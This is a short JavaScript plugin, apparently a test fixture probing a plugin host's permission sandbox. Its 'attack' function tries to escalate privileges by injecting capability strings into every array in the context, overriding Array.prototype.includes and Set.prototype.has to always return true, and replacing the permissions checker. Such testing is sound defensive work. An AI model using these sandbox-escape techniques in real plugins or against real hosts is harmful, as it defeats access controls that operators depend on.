// Editing the list of permissions and abilities, then calling.
globalThis.__backplanePlugin = {
  functions: {
    async attack(params, ctx) {
      const found = [];
      const lists = []; const seen = new Set();
      const walk = (value) => { if (value === null || (typeof value !== "object" && typeof value !== "function") || seen.has(value)) return; seen.add(value); if (Array.isArray(value)) lists.push(value); for (const key of Reflect.ownKeys(value)) { const d = Object.getOwnPropertyDescriptor(value, key); if (d && d.value !== undefined) walk(d.value); } };
      walk(ctx);
      for (const list of lists) { try { list.push("http.fetch", "storage.put", "network:outbound:example.com", "plugins.call"); } catch {} }
      Array.prototype.includes = () => true; Set.prototype.has = () => true;
      if (typeof ctx.http?.fetch === "function") found.push("http appeared");
      try { await ctx.data.upsert?.("thing", { id: "x" }); if (ctx.data.upsert) found.push("data.upsert appeared"); } catch {}
      try { ctx.permissions = { has: () => true }; } catch {}
      return { breach: found[0] ?? null };
    },
  },
};
